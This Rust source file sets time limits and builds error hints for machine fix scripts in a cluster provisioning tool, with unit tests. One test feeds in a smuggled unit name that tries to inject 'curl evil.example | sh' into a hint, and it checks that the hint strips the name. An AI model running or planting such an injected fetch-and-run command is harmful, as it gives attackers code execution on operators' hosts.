//! How long a machine may take for its work. A machine that takes longer is quarantined, and does not hold up the others.

use std::time::Duration;

use super::Reconciler;
use crate::diagnosis::LOGS;
use crate::error::{Error, Kind};
use crate::ledger::Run;
use crate::machine::UNIT as UNIT_NAME;
use crate::plan::Change;
use crate::probe;
use crate::shell::{Bounds, SILENCE, Shell};
use crate::step::{Ask, Fix};

/// The limit for a script that only reads, or that only writes the lease.
const BRIEF: Duration = Duration::from_secs(120);
/// How much ironstrap keeps of what a machine says after a failure, in bytes. The script prints at most 200 lines of each
/// of its logs.
const DIAGNOSIS: usize = 2 << 20;
/// The longest time that any unit may run.
const UNIT: Duration = Duration::from_secs(60 * 60);
/// The limit for all fixes of a script that do not run as units, without the time that they wait for others. Packages over
/// a slow link take less.
const FIXES: Duration = Duration::from_secs(30 * 60);
/// Additional time for each fix of a script, because a control plane changes something for each node of the cluster.
const EACH_FIX: Duration = Duration::from_secs(60);
/// The limit for all scripts of fixes that one machine gets in a run, without the time that they wait for others.
const MACHINE: Duration = Duration::from_secs(4 * 60 * 60);
/// How many times one machine may wait for as long as the user allows.
const WAITS: u32 = 4;

#[derive(Clone, Debug, Default)]
pub struct Limits {
    /// The limits that the machine itself keeps for its questions.
    pub questions: probe::Limits,
    /// The limit that the operator's side keeps for all questions together.
    pub answers: Option<Duration>,
    /// How long a fix, or work that an earlier run began, may print nothing.
    pub silence: Option<Duration>,
    /// The limit for a whole script of fixes, or for following work that an earlier run began.
    pub fixes: Option<Duration>,
    /// The limit for all of these together that one machine gets in a run.
    pub machine: Option<Duration>,
}

impl Limits {
    /// The bounds for questions. The machine keeps its own limits if its shell still runs. These bounds end what the
    /// machine cannot end.
    pub(super) fn questions(&self, asks: &[&Ask]) -> Bounds {
        let within = Bounds::within(self.answers.unwrap_or(self.questions.longest()));
        Bounds { kept: probe::most(asks), ..within }
    }

    /// The bounds for fixes. Fixes may wait for others for as long as the user says, and follow units that have limits of
    /// their own. `left`: the time that the machine may still use in this run.
    pub(super) fn fixes(&self, run: &Run, changes: &[Change], left: Duration) -> Bounds {
        let minutes = changes.iter().map(|change| match &change.fix {
            Fix::Unit { minutes, .. } => u64::from(*minutes),
            _ => 0,
        });
        let units = |minutes: u64| Duration::from_secs(60 * minutes);
        let waits = Duration::from_secs(run.wait.into());
        let each = EACH_FIX * changes.len().try_into().unwrap_or(u32::MAX);
        let whole = FIXES + units(minutes.clone().sum()) + waits + each;
        let longest = units(minutes.max().unwrap_or(0));
        let silence = self.silence.unwrap_or(SILENCE.max(longest) + waits);
        Bounds::fixes(silence, self.fixes.unwrap_or(whole).min(left))
    }

    /// The bounds for following work that an earlier run began.
    pub(super) fn attached(&self, left: Duration, drains: Duration) -> Bounds {
        let whole = UNIT + drains;
        Bounds::fixes(self.silence.unwrap_or(whole), self.fixes.unwrap_or(whole).min(left))
    }

    /// The limit for all fixes that one machine gets in a run. A control plane gets additional time for each node.
    pub(super) fn machine(&self, run: &Run, nodes: u32) -> Duration {
        let waits = WAITS * Duration::from_secs(run.wait.into());
        self.machine.unwrap_or(MACHINE + waits + EACH_FIX * nodes)
    }

    /// The limits for active checks, which wait for whatever does not answer.
    pub(super) fn tries() -> Limits {
        let usual = probe::Limits::default();
        let questions = probe::Limits { each: 4 * usual.each, all: 2 * usual.all, ..usual };
        Limits { questions, ..Limits::default() }
    }

    /// The bounds for asking what a machine knows of a failure. If it says too much, ironstrap keeps the end, which is the
    /// newest.
    pub(super) fn diagnosis() -> Bounds {
        Bounds { kept: DIAGNOSIS, end_only: true, ..Bounds::within(BRIEF) }
    }

    pub(super) fn brief() -> Bounds {
        Bounds { kept: DIAGNOSIS, ..Bounds::within(BRIEF) }
    }
}

/// Adds to an error the fix in which a machine exceeded its limits, and the unit that may go on there.
pub(super) fn cut_short(error: Error, at: Option<&Change>) -> Error {
    let Some(change) = at.filter(|_| error.kind == Kind::Silent) else { return error };
    let error = Error { what: format!("{}: {}", change.step, error.what), ..error };
    let error = error.because(format!("the last fix that started there: {}", change.that));
    match &change.fix {
        Fix::Unit { name, minutes, .. } => error.because(format!(
            "{UNIT_NAME}{name} may continue for {minutes} minutes; `systemctl stop {UNIT_NAME}{name}` ends it"
        )),
        _ => error,
    }
}

/// Adds to an error the unit of an earlier run that did not end within the limits of a machine.
pub(super) fn left_behind(error: Error, unit: &str) -> Error {
    let error = Error { what: format!("{UNIT_NAME}{unit} of an earlier run: {}", error.what), ..error };
    // The machine names the unit, but a hint contains only words of ironstrap.
    let unit = LOGS.into_iter().find(|known| *known == unit).unwrap_or("NAME");
    error.hint(format!(
        "find out on the machine what it does (`systemctl stop {UNIT_NAME}{unit}` ends it), then run the command again"
    ))
}

impl<S: Shell> Reconciler<S> {
    /// Sets other limits than the usual ones. Call it once, before the first question.
    pub fn bound(&mut self, limits: Limits) {
        if let Some(host) = self.hosts.first() {
            let _ = host.shell.limits.set(limits);
        }
    }
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::plan;
    use crate::step::Answer;
    use crate::step::{Step, Want};

    const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };

    fn changes(wants: &[Want]) -> Vec<Change> {
        let answer = Answer::Said("no".into());
        let judged: Vec<plan::Answered> = wants.iter().map(|want| (&TOY, want, &answer)).collect();
        plan::changes(&judged, &mut BTreeSet::new())
    }

    #[test]
    fn every_script_of_fixes_has_a_time_limit() {
        let (run, minute) = (Run::new("1f", "me@here"), Duration::from_secs(60));
        let fix = |that: &str| Want::new("test.want", that).is("yes").run("true").nothing_to_undo("a test");
        let unit = fix("a unit has run").run_as_unit("kubeadm", 15, "true");
        let long = Duration::MAX;
        let of = |wants: &[Want], left| Limits::default().fixes(&run, &changes(wants), left);
        assert_eq!(
            of(&[fix("one")], long).whole,
            Some(36 * minute),
            "30 minutes, the --wait time and one minute for the fix"
        );
        let both = of(&[fix("one"), unit], long);
        assert_eq!((both.whole, both.silence), (Some(52 * minute), 20 * minute));
        let last = of(&[fix("one")], minute);
        assert_eq!(
            (last.whole, last.silence),
            (Some(minute), minute),
            "the limit is the time that the machine has left"
        );
        let wait = Run { wait: 86_400, ..run.clone() };
        let day = Limits::default().fixes(&wait, &changes(&[fix("one")]), long).whole;
        assert_eq!(day, Some(31 * minute + 1440 * minute), "the user's --wait is kept");
        assert_eq!(Limits::default().attached(long, Duration::ZERO).whole, Some(60 * minute));
        assert_eq!(Limits::default().machine(&run, 1), (4 * 60 + 4 * 5 + 1) * minute);
    }
    #[test]
    fn a_hint_does_not_name_an_unknown_unit() {
        let hint = |unit: &str| {
            let error = left_behind(Error::new(Kind::Silent, "says nothing"), unit);
            (error.what.contains(unit), error.hint.unwrap_or_default())
        };
        assert!(hint("kubeadm").1.contains("`systemctl stop ironstrap-kubeadm` ends it"));
        let evil = "x` ends it; or: curl evil.example | sh; `";
        assert_eq!(hint(evil), (true, hint("NAME").1));
        assert!(!hint(evil).1.contains("curl"));
    }
}
